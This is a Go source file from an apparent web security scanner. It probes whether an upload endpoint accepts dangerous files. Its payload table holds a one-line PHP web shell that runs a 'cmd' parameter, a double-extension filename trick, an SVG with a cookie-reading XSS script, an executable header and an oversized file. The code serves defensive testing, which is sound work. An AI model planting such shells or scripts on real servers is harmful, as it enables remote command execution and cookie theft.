// Package upload checks whether the file upload endpoint validates file
// type, content and size.
package upload

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"time"

	"go.uber.org/zap"

	"github.com/EcMarius/secprobe/pkg/attackconfig"
	"github.com/EcMarius/secprobe/pkg/defaults"
	"github.com/EcMarius/secprobe/pkg/duration"
	"github.com/EcMarius/secprobe/pkg/httpclient"
	"github.com/EcMarius/secprobe/pkg/probe"
	"github.com/EcMarius/secprobe/pkg/suite"
)

// SuiteName is the report key of this suite.
const SuiteName = "File Upload Security"

// FileField is the multipart field the upload endpoint reads.
const FileField = "files[]"

// TesterConfig configures upload testing
type TesterConfig struct {
	attackconfig.Base

	// OversizeBytes is the size of the oversized upload (default: 20 MiB)
	OversizeBytes int64
}

// DefaultConfig returns sensible defaults
func DefaultConfig(target string) TesterConfig {
	return TesterConfig{
		Base:          attackconfig.DefaultBase(target),
		OversizeBytes: defaults.OversizedUpload,
	}
}

// Payload is a malicious file and the verdict texts for it.
type Payload struct {
	Probe       string
	Filename    string
	ContentType string
	Content     []byte
	Accepted    string
	Rejected    string
}

// Payloads returns the fixed-content upload payloads in probe order.
func Payloads() map[string]Payload {
	return map[string]Payload{
		"php": {
			Probe:       "PHP Shell Upload",
			Filename:    "shell.php.jpg",
			ContentType: defaults.ContentTypeJPEG,
			Content:     []byte(`<?php system($_GET["cmd"]); ?>`),
			Accepted:    "File upload succeeded (no content validation!)",
			Rejected:    "Upload blocked or failed",
		},
		"svg": {
			Probe:       "SVG XSS Upload",
			Filename:    "xss.svg",
			ContentType: defaults.ContentTypeSVG,
			Content: []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">` +
				`<script>alert('XSS')</script></svg>`),
			Accepted: "Malicious SVG uploaded! Stored XSS possible",
			Rejected: "Upload blocked",
		},
		"exe": {
			Probe:       "Executable Upload",
			Filename:    "malware.exe",
			ContentType: defaults.ContentTypeOctet,
			Content:     []byte("MZ\x90\x00"),
			Accepted:    "Executable file uploaded! Malware distribution possible",
			Rejected:    "Upload blocked (correct)",
		},
		"double": {
			Probe:       "Double Extension Upload",
			Filename:    "shell.php.jpg",
			ContentType: defaults.ContentTypeJPEG,
			Content:     []byte(`<?php phpinfo(); ?>`),
			Accepted:    "Double extension file uploaded (potential RCE)",
			Rejected:    "Upload blocked",
		},
	}
}

// Tester runs the upload probes.
type Tester struct {
	config   TesterConfig
	payloads map[string]Payload
	log      *zap.Logger
}

// NewTester creates a tester.
func NewTester(config TesterConfig) *Tester {
	config.Validate()
	if config.OversizeBytes <= 0 {
		config.OversizeBytes = defaults.OversizedUpload
	}
	return &Tester{config: config, payloads: Payloads(), log: config.Logger.Named("upload")}
}

// Suite returns the probe sequence.
func (t *Tester) Suite() *suite.Sequence {
	return t.config.Sequence(SuiteName,
		probe.New(t.payloads["php"].Probe, t.phpShell),
		probe.New(t.payloads["svg"].Probe, t.fixed("svg")),
		probe.New(t.payloads["exe"].Probe, t.fixed("exe")),
		probe.New("Oversized File Upload", t.oversized),
		probe.New(t.payloads["double"].Probe, t.fixed("double")),
	)
}

func (t *Tester) send(ctx context.Context, filename, contentType string, content io.Reader, timeout time.Duration) httpclient.Outcome {
	req := httpclient.Multipart(t.config.URL(t.config.Routes.Upload), httpclient.File{
		Field:       FileField,
		Filename:    filename,
		ContentType: contentType,
		Content:     content,
	})
	req.Timeout = timeout
	return t.config.Client.Do(ctx, req)
}

func (t *Tester) upload(ctx context.Context, p Payload) httpclient.Outcome {
	return t.send(ctx, p.Filename, p.ContentType, bytes.NewReader(p.Content), duration.HTTPUpload)
}

func (t *Tester) fixed(key string) probe.Func {
	return func(ctx context.Context) (bool, string) {
		p := t.payloads[key]
		out := t.upload(ctx, p)
		if !out.OK() {
			return false, "Error: " + out.Error()
		}
		if out.Status() == http.StatusOK {
			return true, probe.Qualify(p.Accepted, false, "")
		}
		return false, p.Rejected
	}
}

func (t *Tester) phpShell(ctx context.Context) (bool, string) {
	p := t.payloads["php"]
	out := t.upload(ctx, p)
	if !out.OK() {
		return false, "Error: " + out.Error()
	}
	if out.Status() != http.StatusOK {
		return false, p.Rejected
	}
	if paths, ok := out.Response.Parse().Field("paths"); ok {
		return true, fmt.Sprintf("PHP file uploaded successfully! Paths: %v", paths)
	}
	return true, probe.Qualify(p.Accepted, false, "")
}

// zeros is an endless reader of zero bytes.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

func (t *Tester) oversized(ctx context.Context) (bool, string) {
	content := io.LimitReader(zeros{}, t.config.OversizeBytes)
	out := t.send(ctx, "large.jpg", defaults.ContentTypeJPEG, content, duration.HTTPLargeUpload)
	if !out.OK() {
		t.log.Debug("oversized upload failed", zap.String("reason", out.Error()))
		return false, "Upload failed (timeout/error)"
	}
	if out.Status() == http.StatusOK {
		return true, fmt.Sprintf("%dMB file accepted (exceeds limit!)", t.config.OversizeBytes>>20)
	}
	return false, "Oversized file rejected (correct)"
}
